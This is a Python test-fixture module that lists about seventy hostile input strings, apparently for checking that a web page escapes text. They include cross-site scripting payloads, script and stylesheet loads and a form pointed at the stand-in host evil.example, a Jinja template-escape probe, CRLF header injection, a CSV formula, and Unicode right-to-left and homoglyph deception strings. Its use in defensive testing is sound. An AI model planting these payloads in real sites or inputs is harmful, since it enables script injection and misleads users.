"""Texts that would run, break out or mislead if a page treated them as anything but text.

The vectors are well known: script elements, event handlers, URLs that are scripts, SVG and MathML, templates, style
sheets, ends of the contexts that a text may stand in (element, attribute, script, comment, JSON), and characters that
change how a text reads.

Sources: OWASP Cross-Site Scripting Prevention and Filter Evasion Cheat Sheets; HTML Living Standard, section 13.2
(parsing); Unicode Technical Report 36 (bidirectional and invisible characters).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

SIGN = "window.__ran=1"
"""What every vector that is a script does when it runs; a page on which it ran has this flag."""


@dataclass(frozen=True)
class Vector:
    """One hostile text and what it tries."""

    name: str
    text: str


_RUN = SIGN
VECTORS = (
    Vector("script", f"<script>{_RUN}</script>"),
    Vector("script-mixed-case", f"<ScRiPt >{_RUN}</sCrIpT >"),
    Vector("script-nested", f"<scr<script>ipt>{_RUN}</scr</script>ipt>"),
    Vector("script-src", '<script src="https://evil.example/x.js"></script>'),
    Vector("script-src-without-scheme", "<script src=//evil.example/x.js></script>"),
    Vector("img-onerror", f"<img src=x onerror={_RUN}>"),
    Vector("img-onerror-quoted", f"\"><img src=x onerror='{_RUN}'>"),
    Vector("img-slashes", f"<img/src=x/onerror={_RUN}//"),
    Vector("img-elsewhere", '<img src="https://evil.example/pixel.png">'),
    Vector("svg-onload", f"<svg onload={_RUN}>"),
    Vector("svg-script", f"<svg><script>{_RUN}</script></svg>"),
    Vector("svg-animate", f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>'),
    Vector("svg-title", f"</title><svg/onload={_RUN}>"),
    Vector("math", f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">'),
    Vector("details", f"<details open ontoggle={_RUN}>"),
    Vector("autofocus", f"<input autofocus onfocus={_RUN}>"),
    Vector("body", f"<body onload={_RUN}>"),
    Vector("iframe", f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>'),
    Vector("object", f'<object data="data:text/html,<script>{_RUN}</script>"></object>'),
    Vector("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    Vector("base", '<base href="https://evil.example/">'),
    Vector("link-elsewhere", '<link rel=stylesheet href="https://evil.example/x.css">'),
    Vector("form-elsewhere", '<form action="https://evil.example/"><button>Approve</button></form>'),
    Vector("form-stolen", '<input name="verdict" value="approve" form="rule">'),
    Vector("javascript-url", f"javascript:{_RUN}"),
    Vector("javascript-url-blanks", f"  java\tscript:{_RUN}"),
    Vector("javascript-link", f'<a href="javascript:{_RUN}">approve</a>'),
    Vector("data-url", f"data:text/html,<script>{_RUN}</script>"),
    Vector("attribute-double", f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="'),
    Vector("attribute-single", f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='"),
    Vector("attribute-backtick", f"` onmouseover={_RUN} autofocus onfocus={_RUN} `"),
    Vector("attribute-bare", f"x onfocus={_RUN} autofocus tabindex=1"),
    Vector("end-of-script", f"</script><script>{_RUN}</script>"),
    Vector("end-of-json", f'"}}</script><script>{_RUN}</script>{{"x":"'),
    Vector("end-of-textarea", f"</textarea><script>{_RUN}</script>"),
    Vector("end-of-style", f"</style><script>{_RUN}</script>"),
    Vector("end-of-comment", f"--><script>{_RUN}</script><!--"),
    Vector("end-of-cdata", f"]]><script>{_RUN}</script>"),
    Vector("template-jinja", "{{7*7}}{% raise %}{# #}${7*7}#{7*7}<%= 7*7 %>"),
    Vector("template-jinja-reach", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    Vector("template-literal", f"${{{_RUN}}}"),
    Vector("htmx", f'<div hx-get="/desk" hx-trigger="load" hx-on:load="{_RUN}">'),
    Vector("htmx-attribute", '" hx-post="/logout" hx-trigger="load" x="'),
    Vector("css", "<style>*{background:url(https://evil.example/x)}</style>"),
    Vector("css-attribute", '" style="position:fixed;inset:0;background:url(https://evil.example/x)'),
    Vector("css-import", "@import 'https://evil.example/x.css';"),
    Vector("entity", f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;b&#62;&amp;amp;"),
    Vector("entity-without-end", f"&#x3C;script&#x3E{_RUN}&#x3C;/script&#x3E"),
    Vector("markdown", f"[approve](javascript:{_RUN}) ![x](https://evil.example/x)"),
    Vector("url-path", "../../logout?x=1#<script>"),
    Vector("url-query", "?next=//evil.example/&token=1#'\"><"),
    Vector("percent", "%3Cscript%3E%00%0d%0aSet-Cookie:%20x=1"),
    Vector("utf-7", "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-"),
    Vector("right-to-left", "invoice \u202egpj.exe\u202c \u2066\u2069 paid"),
    Vector("right-to-left-never-ended", "\u202eevorppa ton od\u2067"),
    Vector("invisible", "pay\u200b\u200d\ufeffment\u00ad\u2060"),
    Vector("homoglyph", "аpprove раyments"),
    Vector("combining", "Z" + "\u0337\u0301\u0316" * 40 + "algo"),
    Vector("astral", "👩🏽‍⚕️ 𝕏 \U000e0041 \U0010fffd"),
    Vector("separators", "one\u2028two\u2029three\x85four"),
    Vector("controls", "bell\x07 escape\x1b[31m back\x08space delete\x7f"),
    Vector("null", "before\x00after<script>"),
    Vector("line-breaks", "one\r\nSet-Cookie: x=1\r\n\r\n<script>two"),
    Vector("long", "<b>W" + "wW" * 2_000),
    Vector("long-words", "Donaudampfschifffahrt" * 60),
    Vector("arabic", 'تحويل <b>كبير</b> إلى "البنك"'),
    Vector("quotes", 'O\'Brien "the" `knife` & <Sons> \\ / \\u003c'),
    Vector("csv-formula", '=HYPERLINK("https://evil.example","approve")'),
    Vector("prototype", '{"__proto__": {"x": 1}, "constructor": null}'),
)


def all_in_one(vectors: tuple[Vector, ...] = VECTORS, *, most: int = 100_000) -> str:
    """Many vectors in one text, for fields that are filled seldom."""
    return " ".join(vector.text for vector in vectors)[:most]


def printable(text: str) -> str:
    """Without the characters that names and words of documents may not have."""
    return "".join(letter for letter in text if letter.isprintable() or letter == " ")


def pieces(most: int, *, without: str = "") -> Iterator[str]:
    """Every vector that a field of at most so many characters could hold, shortened where it is longer."""
    for vector in VECTORS:
        text = "".join(letter for letter in vector.text if letter not in without)
        yield text[:most]
